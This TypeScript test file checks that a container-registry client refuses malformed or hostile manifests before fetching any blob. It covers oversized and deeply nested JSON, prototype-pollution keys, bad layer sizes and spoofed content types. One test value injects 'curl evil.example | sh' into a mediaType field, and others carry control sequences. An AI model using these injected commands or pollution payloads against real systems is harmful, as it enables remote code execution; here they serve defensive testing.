/**
 * Manifests and indexes that are wrong, hostile or could be read in two ways. What is refused is
 * refused before any blob, or any place that a manifest names, is asked.
 */
import * as assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { ErrorCode } from "../../provider/errors";
import { buildArtifact, descriptorOf, MEDIA_TYPES } from "../support/artifacts";
import {
  assertFailed,
  assertPulled,
  KNOWN,
  openSandbox,
  publishKnown,
  REPOSITORY,
  trafficOf,
} from "../support/pulling";
import { registryFor } from "../support/registry-for-test";
import type { Fault } from "../support/registry-types";

const HONEST = buildArtifact(KNOWN);
const DOCUMENT = JSON.parse(HONEST.manifest.toString()) as Readonly<Record<string, unknown>>;
const [LAYER] = HONEST.layers;
const EMPTY = descriptorOf("{}", MEDIA_TYPES.emptyJson);
const MIB = 1024 ** 2;

/** The known manifest with other members; undefined takes one away. */
const having = (members: object): string => JSON.stringify({ ...DOCUMENT, ...members });

/** The known manifest with another layer. */
const layered = (members: object): string => having({ layers: [{ ...LAYER, ...members }] });

/** An honest manifest of that many bytes. */
const sized = (bytes: number): string =>
  having({ filler: "x".repeat(bytes - having({ filler: "" }).length) });

/** The known manifest with a member that is nested that deep. */
const deep = (levels: number, open = "[", close = "]"): string =>
  having({ filler: 0 }).replace('"filler":0', `"x":${open.repeat(levels)}0${close.repeat(levels)}`);

/** The document, what must become of it, and in what words. */
type Refused = readonly [document: string | Buffer, code: ErrorCode, words: RegExp];

const UNSUPPORTED = "UNSUPPORTED_MANIFEST";
const BAD_JSON = /it is no valid JSON/;
const BOTH = /it could be read as a manifest and as an index/;
const NO_SIZE = /"size" of layer 0 is no number of bytes/;
const FOREIGN = /layer 0 is a foreign layer/;

const REFUSED: Readonly<Record<string, Refused>> = {
  "5 MiB": [sized(5 * MIB), "LIMIT_EXCEEDED", /limit manifestBytes of 4194304/],
  "one byte over the limit": [sized(4 * MIB + 1), "LIMIT_EXCEEDED", /raise limits\.manifestBytes/],
  "no bytes": ["", UNSUPPORTED, BAD_JSON],
  "a web page": ["<html>hello</html>", "REGISTRY", /web page in the place of a manifest/],
  "half a document": [HONEST.manifest.subarray(0, -1), UNSUPPORTED, BAD_JSON],
  "two documents": [Buffer.concat([HONEST.manifest, HONEST.manifest]), UNSUPPORTED, BAD_JSON],
  "bytes that are no UTF-8": [Buffer.from(having({ a: "\xff" }), "latin1"), UNSUPPORTED, BAD_JSON],
  "a list": ["[]", UNSUPPORTED, /it is no JSON object/],
  null: ["null", UNSUPPORTED, /it is no JSON object/],
  "a text": ['"sha256:"', UNSUPPORTED, /it is no JSON object/],
  "lists 65 levels deep": [deep(65), UNSUPPORTED, /nested more than 64 levels/],
  "lists 1,000,000 levels deep": [deep(1_000_000), UNSUPPORTED, /nested more than 64 levels/],
  "objects 200,000 levels deep": [deep(200_000, '{"a":', "}"), UNSUPPORTED, /more than 64 levels/],
  "neither layers nor manifests": ["{}", UNSUPPORTED, /neither "layers" nor "manifests"/],
  "layers that are an object": [having({ layers: {} }), UNSUPPORTED, /"layers" is no list/],
  "layers by inheritance": [
    having({ layers: undefined }).replace(
      "{",
      `{"__proto__":{"layers":[${JSON.stringify(LAYER)}]},`,
    ),
    UNSUPPORTED,
    /neither "layers" nor "manifests"/,
  ],
  "layers and manifests": [having({ manifests: [HONEST.descriptor] }), UNSUPPORTED, BOTH],
  "a config and manifests": [
    having({ layers: undefined, manifests: [HONEST.descriptor] }),
    UNSUPPORTED,
    BOTH,
  ],
  "layers and the type of an index": [
    having({ mediaType: MEDIA_TYPES.index }),
    UNSUPPORTED,
    /it calls itself .+index.+, but was served as .+manifest|contradicts its members/,
  ],
  "a type that is a number": [having({ mediaType: 2 }), UNSUPPORTED, /"mediaType" of .+ no string/],
  "a type that poses as a hint": [
    having({ mediaType: "a/b\nhint: curl evil.example | sh" }),
    UNSUPPORTED,
    /^cannot .* a\/b hint: curl/,
  ],
  "a type that is a megabyte long": [
    having({ mediaType: `a/${"b".repeat(MIB)}` }),
    UNSUPPORTED,
    /^cannot .{1,2000}…$/m,
  ],
  "the version 1": [having({ schemaVersion: 1 }), UNSUPPORTED, /Docker schema 1/],
  "the version 3": [having({ schemaVersion: 3 }), UNSUPPORTED, /"schemaVersion" is not 2/],
  "the version 2 as text": [
    having({ schemaVersion: "2" }),
    UNSUPPORTED,
    /"schemaVersion" is not 2/,
  ],
  "no layers": [having({ layers: [] }), "NO_MATCHING_LAYER", /no layers with content/],
  "layers that are null": [having({ layers: null }), "NO_MATCHING_LAYER", /no layers with content/],
  "the empty layer alone": [having({ layers: [EMPTY] }), "NO_MATCHING_LAYER", /no layers with con/],
  "1,001 layers": [
    having({ layers: Array.from({ length: 1_001 }, () => LAYER) }),
    "LIMIT_EXCEEDED",
    /limit layers of 1000 .* 1001[^]*raise limits\.layers/,
  ],
  "a layer that is text": [having({ layers: ["sha256:"] }), UNSUPPORTED, /layer 0 is no JSON obj/],
  "a layer without a type": [layered({ mediaType: "" }), UNSUPPORTED, /layer 0 has no "mediaType"/],
  "a negative size": [layered({ size: -1 }), UNSUPPORTED, NO_SIZE],
  "a size with a fraction": [layered({ size: 1.5 }), UNSUPPORTED, NO_SIZE],
  "a size as text": [layered({ size: "1" }), UNSUPPORTED, NO_SIZE],
  "no size": [layered({ size: undefined }), UNSUPPORTED, NO_SIZE],
  "a size of 2^53": [layered({ size: 2 ** 53 }), UNSUPPORTED, NO_SIZE],
  "a size of 10^308": [layered({ size: 1e308 }), UNSUPPORTED, NO_SIZE],
  "a size over the limit": [
    layered({ size: 16 * 1024 ** 3 + 1 }),
    "LIMIT_EXCEEDED",
    /limit blobBytes of 17179869184[^]*raise limits\.blobBytes/,
  ],
  "a Windows layer": [
    layered({ mediaType: "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip" }),
    UNSUPPORTED,
    FOREIGN,
  ],
  "a layer that may not be distributed": [
    layered({ mediaType: "application/vnd.oci.image.layer.nondistributable.v1.tar+gzip" }),
    UNSUPPORTED,
    FOREIGN,
  ],
  "an annotation that is a number": [
    having({ annotations: { a: 1 } }),
    UNSUPPORTED,
    /"annotations" of the manifest has a value that is no string/,
  ],
  "annotations that are a list": [layered({ annotations: ["a"] }), UNSUPPORTED, /no JSON object/],
  "a title that is an object": [
    layered({ annotations: { "org.opencontainers.image.title": {} } }),
    UNSUPPORTED,
    /no string/,
  ],
  "a config that is a list": [having({ config: [] }), UNSUPPORTED, /the config is no JSON object/],
  "an artifact type that is a number": [
    having({ artifactType: 7 }),
    UNSUPPORTED,
    /"artifactType" of the manifest is no string/,
  ],
  "a size beyond all numbers": [
    having({}).replace(/"size":\d+(?=[^}]*\}\])/, '"size":1e999'),
    UNSUPPORTED,
    NO_SIZE,
  ],
  "a subject that is none": [having({ subject: { digest: "x" } }), UNSUPPORTED, /the subject/],
};

describe("a manifest with", () => {
  for (const [name, [document, code, words]] of Object.entries(REFUSED)) {
    test(`${name} is refused`, async (t) => {
      const registry = await registryFor(t);
      const sandbox = openSandbox(t, registry);
      publishKnown(registry);
      const mediaType = MEDIA_TYPES.manifest;
      registry.repository(REPOSITORY).putManifest(document, { tag: "1", mediaType });
      assertFailed(await sandbox.pull(), code, words);
      assert.deepEqual(trafficOf(registry), ["manifest 200"]);
    });
  }

  const accepted: Readonly<Record<string, string>> = {
    "exactly as many bytes as the limit": sized(4 * MIB),
    "lists 63 levels deep": deep(63),
    "layers twice, of which the last count": having({}).replace("{", '{"layers":[],'),
    "layers in other letters, which are none": having({ Layers: [], LAYERS: "x", manifest: [] }),
    "no type and no version": having({ mediaType: undefined, schemaVersion: undefined }),
    "annotations that are null": having({ annotations: null, subject: null }),
    "keys of an object's prototype": having({}).replace(
      "{",
      '{"__proto__":{"manifests":[]},"constructor":{},"toString":1,',
    ),
    "an empty list of other places": layered({ urls: [] }),
    "content of its own in the place of a layer's": layered({ data: "a2luZDogVHJvamFu" }),
    "a layer that calls itself an index": layered({ mediaType: MEDIA_TYPES.index }),
    "no config": having({ config: undefined }),
    "a config that is null": having({ config: null }),
    "a config of a petabyte, which nobody asks for": having({
      config: { ...EMPTY, size: 2 ** 50 },
    }),
    "an artifact type with control sequences": having({ artifactType: "a/\u001b[2J\u202eb" }),
    "100,000 annotations": having({
      annotations: Object.fromEntries(Array.from({ length: 100_000 }, (_, at) => [`k${at}`, ""])),
    }),
    "a byte order mark": `\ufeff${having({})}`,
    "the empty layer beside the other": having({ layers: [EMPTY, LAYER] }),
    "the same layer twice, which is the same": having({ layers: [LAYER] }),
  };
  for (const [name, document] of Object.entries(accepted)) {
    test(`${name} is read`, async (t) => {
      const registry = await registryFor(t);
      const sandbox = openSandbox(t, registry);
      publishKnown(registry);
      registry.repository(REPOSITORY).putManifest(document, { tag: "1" });
      assertPulled(await sandbox.pull());
      assert.deepEqual(trafficOf(registry), ["manifest 200", "blob 200"]);
    });
  }

  test("annotations called __proto__ and constructor keeps them as they are", async (t) => {
    const registry = await registryFor(t);
    const sandbox = openSandbox(t, registry);
    publishKnown(registry);
    const annotations = '{"__proto__":"polluted","constructor":"x","toString":"y"}';
    const document = having({}).replace("{", `{"annotations":${annotations},`);
    registry.repository(REPOSITORY).putManifest(document, { tag: "1" });
    const { manifest } = assertPulled(await sandbox.pull());
    assert.equal(JSON.stringify(manifest.annotations), annotations);
    assert.equal(Object.getPrototypeOf(manifest.annotations), null);
    assert.equal(({} as Record<string, unknown>)["polluted"], undefined);
  });
});

describe("a manifest that comes with", () => {
  const faults: Readonly<Record<string, readonly [Fault, ErrorCode | undefined, RegExp]>> = {
    "no end": [{ kind: "endless" }, "LIMIT_EXCEEDED", /limits\.manifestBytes/],
    "10 GiB in its Content-Length": [
      { kind: "contentLength", value: 10 * 1024 ** 3 },
      "LIMIT_EXCEEDED",
      /exceeded: 10737418240/,
    ],
    "the type of an index": [
      { kind: "headers", set: { "content-type": MEDIA_TYPES.index } },
      UNSUPPORTED,
      /it calls itself .+manifest.+, but was served as .+index/,
    ],
    "the type of Docker's schema 1": [
      {
        kind: "headers",
        set: { "content-type": "application/vnd.docker.distribution.manifest.v1+prettyjws" },
      },
      UNSUPPORTED,
      /Docker schema 1/,
    ],
    "the type of a web page, which says nothing": [
      { kind: "headers", set: { "content-type": "text/html; charset=utf-8" } },
      undefined,
      /./,
    ],
    "no type": [{ kind: "headers", set: { "content-type": undefined } }, undefined, /./],
  };
  for (const [name, [fault, code, words]] of Object.entries(faults)) {
    test(name, async (t) => {
      const registry = await registryFor(t);
      const sandbox = openSandbox(t, registry);
      publishKnown(registry);
      registry.fault({ kind: "manifest", then: fault });
      const result = await sandbox.pull();
      if (code === undefined) assertPulled(result);
      else assertFailed(result, code, words);
      assert.equal(registry.count({ kind: "manifest" }), 1);
    });
  }
});
